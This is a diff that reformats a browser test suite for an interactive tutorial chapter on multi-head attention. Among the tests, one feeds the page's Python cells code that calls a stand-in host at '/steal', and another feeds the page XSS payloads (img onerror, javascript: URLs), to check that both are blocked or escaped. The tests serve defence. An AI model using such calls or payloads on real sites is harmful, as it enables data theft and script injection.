@@ -1,7 +1,8 @@
 """Chapter 2 in Chromium: the stepper's shapes, editing the heads, live cells, the exercise, Python kept off the network."""
-import pytest
 
+import pytest
 from conftest import open_ready
+
 from toymodels.page import cells
 from toymodels.page.html import tenths
 from toymodels.split_attend import model as sa
@@ -17,11 +18,13 @@ def step(page, name):
 
 def test_stepper_shows_each_step_with_its_shapes(page, base_url):
     open_ready(page, base_url + CHAPTER)
-    expect = {"project": ["Q = X · W_Q (6 × 4)", "K = X · W_K (6 × 4)", "V = X · W_V (6 × 4)"],
-              "split": ["Q (6 × 4)", "q for head 1 (6 × 2)", "q for head 2 (6 × 2)"],
-              "attend": ["Head 1 output = weights · v (6 × 2)", "Head 2 output = weights · v (6 × 2)"],
-              "concat": ["Concatenated heads C (6 × 4)"],
-              "mix": ["Output Y = C · W_O (6 × 4)", "C (6 × 4)", "W_O (4 × 4)"]}
+    expect = {
+        "project": ["Q = X · W_Q (6 × 4)", "K = X · W_K (6 × 4)", "V = X · W_V (6 × 4)"],
+        "split": ["Q (6 × 4)", "q for head 1 (6 × 2)", "q for head 2 (6 × 2)"],
+        "attend": ["Head 1 output = weights · v (6 × 2)", "Head 2 output = weights · v (6 × 2)"],
+        "concat": ["Concatenated heads C (6 × 4)"],
+        "mix": ["Output Y = C · W_O (6 × 4)", "C (6 × 4)", "W_O (4 × 4)"],
+    }
     for name, captions in expect.items():
         step(page, name)
         assert page.locator("#split-attend .mh-matrix caption").all_inner_texts() == captions, name
@@ -30,12 +33,19 @@ def test_stepper_shows_each_step_with_its_shapes(page, base_url):
     step(page, "mix")
     page.locator("#split-attend td[data-fk='y-4-1']").click()
     page.wait_for_selector("#split-attend .mh-stage [role='status']:has-text('Output (“the”, d2)')")
-    assert page.locator("#split-attend table:nth-of-type(2) td.hl").count() == 4  # row "the" of C: both heads' numbers
+    assert (
+        page.locator("#split-attend table:nth-of-type(2) td.hl").count() == 4
+    )  # row "the" of C: both heads' numbers
     page.watch.clean()
 
 
 def grid_shares(page, head, row):
-    tips = page.locator(f"#split-attend table.mh-grid[data-head='{head}'] tbody tr").nth(row).locator("td .tip").all_text_contents()
+    tips = (
+        page.locator(f"#split-attend table.mh-grid[data-head='{head}'] tbody tr")
+        .nth(row)
+        .locator("td .tip")
+        .all_text_contents()
+    )
     return [t.rsplit(": ", 1)[1] for t in tips if "cannot see" not in t]
 
 
@@ -59,7 +69,10 @@ def test_editing_a_head_recomputes_its_grid_like_cpython(page, base_url):
     assert page.get_by_role("button", name="As designed").get_attribute("aria-pressed") == "false"
     page.get_by_role("button", name="Heads swapped").click()
     page.wait_for_selector("[data-fk='preset-swapped'][aria-pressed='true']")
-    assert grid_shares(page, 1, 5) == [f"{t // 10}.{t % 10}%" for t in tenths(sa.forward(words, sa.PRESETS["swapped"])["weights"][0, 5])]
+    assert grid_shares(page, 1, 5) == [
+        f"{t // 10}.{t % 10}%"
+        for t in tenths(sa.forward(words, sa.PRESETS["swapped"])["weights"][0, 5])
+    ]
     page.watch.clean()
 
 
@@ -84,7 +97,9 @@ def test_cells_run_like_the_build_and_show_tracebacks(page, base_url, site):
     box.press("Control+Enter")
     cell.locator("pre.error").wait_for()
     error = cell.locator("pre.error").inner_text()
-    assert error.startswith("Traceback (most recent call last):") and error.endswith("NameError: name 'undefined_name' is not defined\n")
+    assert error.startswith("Traceback (most recent call last):") and error.endswith(
+        "NameError: name 'undefined_name' is not defined\n"
+    )
     cell.get_by_role("button", name="Reset").click()
     assert box.input_value() == codes[1]
     page.watch.clean()
@@ -115,29 +130,43 @@ def test_exercise_reports_the_check(page, base_url):
     verdict = ex.locator("[data-verdict]")
     page.wait_for_selector(".mh-exercise [data-verdict].wrong")
     assert verdict.inner_text().startswith("Not yet: Token 1 gives 50% to token 0")
-    ex.locator("textarea").fill("W_Q2 = np.array([[5., 0.], [5., 0.]])\nW_K2 = np.array([[1., 0.], [0., -1.]])\n"
-                                "w2, head2 = attention(X, W_Q2, W_K2, W_V2)\nw2.round(3)")
+    ex.locator("textarea").fill(
+        "W_Q2 = np.array([[5., 0.], [5., 0.]])\nW_K2 = np.array([[1., 0.], [0., -1.]])\n"
+        "w2, head2 = attention(X, W_Q2, W_K2, W_V2)\nw2.round(3)"
+    )
     ex.get_by_role("button", name="Run").click()
     page.wait_for_selector(".mh-exercise [data-verdict].right")
     assert verdict.inner_text().startswith("Correct: token 1 gives 100% to token 0.")
     page.reload()
     page.wait_for_selector("html.py-ready", timeout=90_000)
-    assert page.locator(".mh-exercise [data-verdict]").inner_text().startswith("You solved this exercise earlier.")
-    assert "W_Q2 = np.array([[5., 0.]" in page.locator(".mh-exercise textarea").input_value()  # the edit was kept
+    assert (
+        page.locator(".mh-exercise [data-verdict]")
+        .inner_text()
+        .startswith("You solved this exercise earlier.")
+    )
+    assert (
+        "W_Q2 = np.array([[5., 0.]" in page.locator(".mh-exercise textarea").input_value()
+    )  # the edit was kept
     page.watch.clean()
 
 
-@pytest.mark.parametrize("code", [
-    "from js import XMLHttpRequest\nx = XMLHttpRequest.new()\nx.open('GET', 'http://203.0.113.9/steal', False)\nx.send()",
-    "from pyodide.http import open_url\nopen_url('http://203.0.113.9/steal')",
-])
+@pytest.mark.parametrize(
+    "code",
+    [
+        "from js import XMLHttpRequest\nx = XMLHttpRequest.new()\nx.open('GET', 'http://203.0.113.9/steal', False)\nx.send()",
+        "from pyodide.http import open_url\nopen_url('http://203.0.113.9/steal')",
+    ],
+)
 def test_python_in_the_page_cannot_reach_another_origin(page, base_url, code):
     open_ready(page, base_url + CHAPTER)
     cell = page.locator("[data-cell]").first
     cell.locator("textarea").fill(code)
     cell.get_by_role("button", name="Run").click()
     cell.locator("pre.error").wait_for()
-    assert "blocked by Many Heads' policy: this page may only contact its own origin, not http://203.0.113.9" in cell.locator("pre.error").inner_text()
+    assert (
+        "blocked by Many Heads' policy: this page may only contact its own origin, not http://203.0.113.9"
+        in cell.locator("pre.error").inner_text()
+    )
     assert page.watch.foreign == []
     page.watch.clean()
 
@@ -146,12 +175,21 @@ XSS = '<img src=x onerror="window.__xss=1">'
 
 
 def test_cell_output_and_url_state_stay_text(page, base_url):
-    open_ready(page, f"{base_url}{CHAPTER}?split-attend.step=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E&split-attend.w=javascript:alert(1)")
-    assert page.locator("#split-attend [data-fk='step-attend']").get_attribute("aria-pressed") == "true"
+    open_ready(
+        page,
+        f"{base_url}{CHAPTER}?split-attend.step=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E&split-attend.w=javascript:alert(1)",
+    )
+    assert (
+        page.locator("#split-attend [data-fk='step-attend']").get_attribute("aria-pressed")
+        == "true"
+    )
     cell = page.locator("[data-cell]").first
     cell.locator("textarea").fill(f"print({XSS!r})\n{XSS!r}")
     cell.get_by_role("button", name="Run").click()
     cell.locator("pre.stdout").wait_for()
     assert cell.locator("pre.stdout").inner_text() == XSS + "\n"
-    assert page.locator("[data-cell] img, #split-attend img").count() == 0 and page.evaluate("window.__xss") is None
+    assert (
+        page.locator("[data-cell] img, #split-attend img").count() == 0
+        and page.evaluate("window.__xss") is None
+    )
     page.watch.clean()
